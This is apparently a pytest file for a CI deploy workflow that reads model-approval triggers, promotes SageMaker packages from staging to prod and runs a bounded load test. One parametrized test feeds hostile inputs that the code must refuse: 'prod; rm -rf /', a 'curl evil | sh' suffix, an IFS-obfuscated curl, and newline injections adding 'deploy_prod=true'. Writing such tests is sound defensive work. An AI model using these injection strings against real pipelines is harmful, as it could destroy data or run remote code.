"""The deploy workflow's own scripts: reading the trigger (refusing malformed or hostile input),
the environment values the workflows use, and the bounded load test."""

from __future__ import annotations

import json

import pytest

from ci import deploy_request, load_test
from ci import env as ci_env
from env_config import REPO_ROOT, load

ARN = "arn:aws:sagemaker:us-east-1:123456789012:model-package/sagemaker-gitops-staging/7"


def dispatch(environment="staging", arn=ARN, action="model-approved"):
    return {
        "action": action,
        "client_payload": {"environment": environment, "model_package_arn": arn},
    }


# ----------------------------------------------------------------------------------------------
# deploy_request
# ----------------------------------------------------------------------------------------------
def test_a_model_approved_dispatch_selects_its_environment():
    outputs = deploy_request.read("repository_dispatch", dispatch("dev"))
    assert outputs == {
        "environments": "dev",
        "summary": f"dev: {ARN}",
        "deploy_dev": "true",
        "arn_dev": ARN,
        "deploy_staging": "false",
        "arn_staging": "",
        "deploy_prod": "false",
        "arn_prod": "",
        "override": "",
    }


def test_a_staging_approval_is_promoted_to_prod_with_the_same_arn():
    """prod.yaml says approval.promote_from: staging, read through env_config."""
    assert load("prod").promote_from == "staging"
    outputs = deploy_request.read("repository_dispatch", dispatch())
    assert outputs == {
        "environments": "staging-prod",
        "summary": f"staging: {ARN}; prod: {ARN}",
        "deploy_dev": "false",
        "arn_dev": "",
        "deploy_staging": "true",
        "arn_staging": ARN,
        "deploy_prod": "true",
        "arn_prod": ARN,
        "override": "",
    }
    manual = {"inputs": {"environment": "staging", "model_package_arn": ARN}}
    assert deploy_request.read("workflow_dispatch", manual) == outputs


def test_latest_is_never_promoted():
    event = {"inputs": {"environment": "staging", "model_package_arn": "latest"}}
    outputs = deploy_request.read("workflow_dispatch", event)
    assert outputs["deploy_staging"] == "true" and outputs["arn_staging"] == "latest"
    assert outputs["deploy_prod"] == "false" and outputs["arn_prod"] == ""


def test_promotion_follows_promote_from_transitively_and_in_order():
    chain = {"dev": "", "staging": "dev", "prod": "staging"}
    outputs = deploy_request.read(
        "repository_dispatch", dispatch("dev"), promote_from=chain.__getitem__
    )
    assert outputs["environments"] == "dev-staging-prod"
    assert outputs["arn_dev"] == outputs["arn_staging"] == outputs["arn_prod"] == ARN
    nothing = {"dev": "", "staging": "", "prod": ""}
    alone = deploy_request.read("repository_dispatch", dispatch(), promote_from=nothing.get)
    assert alone["environments"] == "staging" and alone["deploy_prod"] == "false"


def test_a_prod_approval_targets_prod_only():
    outputs = deploy_request.read("repository_dispatch", dispatch("prod"))
    assert outputs["environments"] == "prod"
    assert outputs["deploy_staging"] == "false"


def test_a_manual_run_may_ask_for_the_latest_approved_package():
    event = {"inputs": {"environment": "staging", "model_package_arn": "Latest"}}
    outputs = deploy_request.read("workflow_dispatch", event)
    assert outputs["arn_staging"] == "latest"
    assert outputs["deploy_staging"] == "true"
    default = deploy_request.read("workflow_dispatch", {"inputs": {"environment": "dev"}})
    assert default["arn_dev"] == "latest", "an input left at its default"


@pytest.mark.parametrize("arn", ["", " ", f"{ARN}\n", f" {ARN}"])
def test_an_empty_or_padded_arn_is_refused_never_latest(arn):
    """Issue 12: an empty ARN (or a dispatch with none) deployed "latest"; padding was trimmed."""
    with pytest.raises(deploy_request.RequestError, match=r"empty|whitespace"):
        deploy_request.read("repository_dispatch", dispatch(arn=arn))
    with pytest.raises(deploy_request.RequestError, match=r"empty|whitespace"):
        deploy_request.read(
            "workflow_dispatch", {"inputs": {"environment": "dev", "model_package_arn": arn}}
        )
    missing = {"action": "model-approved", "client_payload": {"environment": "dev"}}
    with pytest.raises(deploy_request.RequestError, match="empty"):
        deploy_request.read("repository_dispatch", missing)


def manual_prod(arn=ARN, reason=""):
    return {
        "inputs": {"environment": "prod", "model_package_arn": arn, "skip_staging_reason": reason},
        "sender": {"login": "octocat"},
    }


def test_a_manual_prod_run_needs_a_package_staging_recorded():
    """Issue 12: workflow_dispatch with environment=prod skipped staging."""
    never = {"staging": set()}.__getitem__
    with pytest.raises(deploy_request.RequestError, match="never recorded as deployed to staging"):
        deploy_request.read("workflow_dispatch", manual_prod(), recorded=never)
    with pytest.raises(deploy_request.RequestError, match="not 'latest'"):
        deploy_request.read("workflow_dispatch", manual_prod("latest"), recorded=never)
    passed = {"staging": {ARN}}.__getitem__
    outputs = deploy_request.read("workflow_dispatch", manual_prod(), recorded=passed)
    assert outputs["deploy_prod"] == "true" and outputs["override"] == ""


def test_skipping_staging_on_purpose_is_audited():
    never = {"staging": set()}.__getitem__
    outputs = deploy_request.read(
        "workflow_dispatch", manual_prod(reason="hotfix\nfor INC-42"), recorded=never
    )
    assert outputs["deploy_prod"] == "true"
    assert outputs["override"] == "Skipped staging: hotfix for INC-42 (requested by octocat)."


def test_staging_history_is_read_from_git(tmp_path, tmp_path_factory):
    """Every ARN any commit of deployments/staging.json named, not only the latest one."""
    import subprocess

    def git(*args):
        subprocess.run(["git", *args], cwd=tmp_path, check=True, capture_output=True)

    git("init", "-q")
    (tmp_path / "deployments").mkdir()
    older, newer = ARN.replace("/7", "/6"), ARN
    for arn in (older, newer):
        (tmp_path / "deployments" / "staging.json").write_text(record("staging", arn))
        git("add", "-A")
        git("-c", "user.name=t", "-c", "user.email=t@example.com", "commit", "-qm", arn)
    assert deploy_request.recorded_in_git("staging", tmp_path) == {older, newer}
    assert deploy_request.recorded_in_git("prod", tmp_path) == set()
    with pytest.raises(deploy_request.RequestError, match="cannot read the history"):
        deploy_request.recorded_in_git("staging", tmp_path_factory.mktemp("not-a-repository"))


def record(environment: str, arn: str) -> str:
    return json.dumps({"environment": environment, "model_package_arn": arn, "version": 1})


def test_a_push_that_changes_records_deploys_what_they_name():
    """A revert of deployments/prod.json on main names the previous package: it is rolled out."""
    previous = ARN.replace("staging/7", "prod/6").replace("staging", "prod")
    files = {
        "deployments/prod.json": record("prod", previous),
        "deployments/dev.json": record("dev", ARN.replace("staging", "dev")),
    }
    event = {
        "commits": [
            {"added": [], "modified": ["deployments/prod.json", "docs/cicd.md"]},
            {"added": ["deployments/dev.json"], "modified": []},
        ]
    }
    outputs = deploy_request.read("push", event, read_file=files.__getitem__)
    assert outputs["environments"] == "dev-prod"
    assert outputs["deploy_prod"] == "true" and outputs["arn_prod"] == previous
    assert outputs["deploy_dev"] == "true"
    assert outputs["deploy_staging"] == "false" and outputs["arn_staging"] == ""


def test_a_push_without_records_deploys_nothing():
    outputs = deploy_request.read("push", {"commits": [{"modified": ["deployments/README.md"]}]})
    assert outputs["environments"] == "none"
    assert {outputs[f"deploy_{name}"] for name in ("dev", "staging", "prod")} == {"false"}


@pytest.mark.parametrize(
    ("content", "message"),
    [
        (record("prod", "latest"), "not a versioned"),  # a record names a version, never latest
        (record("staging", ARN), "says environment 'staging'"),
        ("{not json", "not a readable JSON record"),
    ],
)
def test_a_bad_record_is_refused(content, message):
    event = {"commits": [{"modified": ["deployments/prod.json"]}]}
    with pytest.raises(deploy_request.RequestError, match=message):
        deploy_request.read("push", event, read_file=lambda path: content)


@pytest.mark.parametrize(
    ("event_name", "event", "message"),
    [
        ("repository_dispatch", dispatch(action="deploy-everything"), "is not handled"),
        ("repository_dispatch", dispatch(environment="local"), "is not one of"),
        ("repository_dispatch", dispatch(environment="prod; rm -rf /"), "is not one of"),
        ("repository_dispatch", dispatch(arn="arn:aws:s3:::bucket"), "not a versioned"),
        ("repository_dispatch", dispatch(arn=ARN.rsplit("/", 1)[0]), "not a versioned"),
        ("repository_dispatch", dispatch(arn=ARN + '"; curl evil | sh; "'), "whitespace"),
        ("repository_dispatch", dispatch(arn=ARN + '";curl${IFS}evil'), "not a versioned"),
        ("repository_dispatch", dispatch(arn=ARN + "\n/8"), "whitespace"),
        ("repository_dispatch", dispatch(arn=ARN + "\ndeploy_prod=true"), "whitespace"),
        ("pull_request", {}, "does not start a deployment"),
    ],
)
def test_malformed_or_hostile_requests_are_refused(event_name, event, message):
    with pytest.raises(deploy_request.RequestError, match=message):
        deploy_request.read(event_name, event)


def test_no_output_line_can_be_added():
    outputs = deploy_request.read("repository_dispatch", dispatch(arn=ARN))
    assert all("\n" not in value for value in outputs.values())
    with pytest.raises(deploy_request.RequestError, match="whitespace"):
        deploy_request.read("repository_dispatch", dispatch(arn=f"{ARN}\narn_prod=x"))


def test_main_reads_the_event_file_and_writes_outputs(tmp_path, monkeypatch, capsys):
    event = tmp_path / "event.json"
    event.write_text(json.dumps(dispatch(environment="prod")))
    outputs = tmp_path / "outputs"
    monkeypatch.setenv("GITHUB_EVENT_PATH", str(event))
    monkeypatch.setenv("GITHUB_EVENT_NAME", "repository_dispatch")
    monkeypatch.setenv("GITHUB_OUTPUT", str(outputs))
    assert deploy_request.main([]) == 0
    assert "environments=prod\n" in outputs.read_text()
    assert f"arn_prod={ARN}\n" in outputs.read_text()
    event.write_text(json.dumps(dispatch(environment="qa")))
    assert deploy_request.main([]) == 2
    assert "::error::refused: environment 'qa'" in capsys.readouterr().out


# ----------------------------------------------------------------------------------------------
# ci_env
# ----------------------------------------------------------------------------------------------
def test_ci_env_outputs_come_from_the_environment_file(capsys):
    assert ci_env.main(["--env", "staging"]) == 0
    lines = dict(line.split("=", 1) for line in capsys.readouterr().out.splitlines())
    config = load("staging")
    assert lines["region"] == config.region
    assert lines["account_id"] == config.account_id
    assert lines["registry"] == f"{config.account_id}.dkr.ecr.{config.region}.amazonaws.com"
    assert lines["job_image"] == config.image_repository_uri("job")
    assert lines["pipeline_name"] == config.get("resources.pipeline_name")
    assert lines["endpoint_enabled"] == "true"


def test_ci_env_refuses_an_unknown_environment(capsys):
    assert ci_env.main(["--env", "qa"]) == 2
    assert "is not an environment" in capsys.readouterr().err


# ----------------------------------------------------------------------------------------------
# load_test
# ----------------------------------------------------------------------------------------------
class Clock:
    """Each reading advances 10 ms: latencies and the time bound without sleeping."""

    def __init__(self):
        self.now = 0.0

    def __call__(self):
        self.now += 0.010
        return self.now


def test_load_test_counts_requests_errors_and_latency():
    calls = []

    def invoke(body):
        calls.append(body)
        if len(calls) % 10 == 0:
            raise RuntimeError("ModelError")

    result = load_test.run(invoke, [b"a", b"b"], requests=50, concurrency=1, max_seconds=1e9,
                           clock=Clock())  # fmt: skip
    assert result.sent == 50 and len(calls) == 50
    assert result.errors == 5
    assert calls[:3] == [b"a", b"b", b"a"]  # bodies are cycled
    assert result.p95_ms == pytest.approx(10.0)
    assert result.problems(max_p95_ms=500) == ["5 of 50 requests failed"]


def test_load_test_stops_at_its_time_bound():
    result = load_test.run(lambda body: None, [b"x"], requests=1000, concurrency=1,
                           max_seconds=0.5, clock=Clock())  # fmt: skip
    assert 0 < result.sent < 1000


def test_load_test_fails_on_slow_answers_and_on_nothing_sent():
    slow = load_test.Result(sent=10, errors=0, p50_ms=300, p95_ms=900, max_ms=950, seconds=1)
    assert slow.problems(500) == ["p95 latency 900 ms exceeds 500 ms"]
    none = load_test.Result(sent=0, errors=0, p50_ms=0, p95_ms=0, max_ms=0, seconds=0)
    assert none.problems(500) == ["no request was sent"]


def test_percentile_is_nearest_rank():
    assert load_test.percentile([], 0.95) == 0.0
    assert load_test.percentile([float(v) for v in range(1, 101)], 0.95) == 95.0
    assert load_test.percentile([5.0], 0.5) == 5.0


def test_rows_follow_the_schema_order(tmp_path):
    schema = json.loads((REPO_ROOT / "training_code" / "schema.json").read_text())
    features = schema["features"]
    csv_path = tmp_path / "sample.csv"
    header = [*reversed(features), schema["label"]]
    values = {name: float(index) for index, name in enumerate(features)}
    row = [str(values[name]) for name in reversed(features)] + ["1"]
    csv_path.write_text(",".join(header) + "\n" + ",".join(row) + "\n")
    assert load_test.rows_from_csv(csv_path, features) == [[float(i) for i in range(len(features))]]
    empty = tmp_path / "empty.csv"
    empty.write_text(",".join(header) + "\n")
    with pytest.raises(ValueError, match="make data"):
        load_test.rows_from_csv(empty, features)
